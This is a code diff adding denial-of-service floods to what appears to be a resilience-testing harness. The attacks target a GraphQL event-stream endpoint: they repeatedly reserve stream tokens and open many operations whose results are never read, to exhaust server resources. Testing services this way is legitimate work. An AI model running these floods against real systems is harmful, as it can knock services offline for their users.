@@ -1,4 +1,4 @@
-import type { Attack, Flood } from '../attack.ts';
+import { type Attack, type Flood, keepOpen, open, readStatuses } from '../attack.ts';
 import { bearer, graphql, repeat, request, sendUnread } from '../http.ts';
 
 const credentialOf = ({ tokens, keys }: Attack, index: number): string | undefined => {
@@ -12,6 +12,38 @@ const subscription = 'subscription { conversationChanged { kind } }';
 
 const completion = (attack: Attack, index: number, path: string, body: object): Buffer =>
   request('POST', path, { ...json, ...bearer(credentialOf(attack, index)) }, JSON.stringify(body));
+
+const tokenHeader = 'X-GraphQL-Event-Stream-Token';
+
+const introspection = '{ __schema { types { name description fields { name description args { name } } } } }';
+
+/** Starts operations on event streams of graphql-sse's single connection mode, and never reads their results. */
+const unreadEventStreams: Flood = (attack) =>
+  keepOpen(attack, 40, (socket, index) => {
+    const credential = bearer(credentialOf(attack, index));
+    const send = (data: Buffer) => {
+      attack.count('requests');
+      socket.write(data);
+    };
+    let id = 0;
+    let next: (() => void) | null = null;
+    socket.on('data', (chunk: Buffer) => {
+      const [, token] = /\r\n\r\n(?:[0-9a-f]+\r\n)?([\w-]{32})/.exec(chunk.toString('latin1')) ?? [];
+      if (next || token === undefined) return;
+      const headers = { ...credential, [tokenHeader]: token };
+      const stream = open(attack, 0, index);
+      socket.once('close', () => stream.destroy());
+      stream.pause();
+      stream.write(request('GET', '/graphql', { ...headers, Accept: 'text/event-stream' }));
+      next = () => {
+        id += 1;
+        const body = JSON.stringify({ query: introspection, extensions: { operationId: String(id) } });
+        send(request('POST', '/graphql', { ...json, ...headers }, body));
+      };
+    });
+    readStatuses(attack, socket, () => setImmediate(() => next?.()));
+    send(request('PUT', '/graphql', credential));
+  });
 
 /** Floods of streams, completions and downloads that aren't read, or not ended. */
 export const streamFloods: Readonly<Record<string, Flood>> = {
@@ -28,6 +60,13 @@ export const streamFloods: Readonly<Record<string, Flood>> = {
       () => graphql(subscription, {}, undefined, 'text/event-stream'),
       (index) => index,
     ),
+
+  'reserved event streams': (attack) =>
+    repeat(attack, 30, (index) =>
+      request('PUT', '/graphql', index % 2 === 0 ? bearer(credentialOf(attack, index)) : {}),
+    ),
+
+  'event streams of many operations, unread': unreadEventStreams,
 
   'multipart streams, pipelined': (attack) =>
     sendUnread(attack, 100, 16, (index) =>
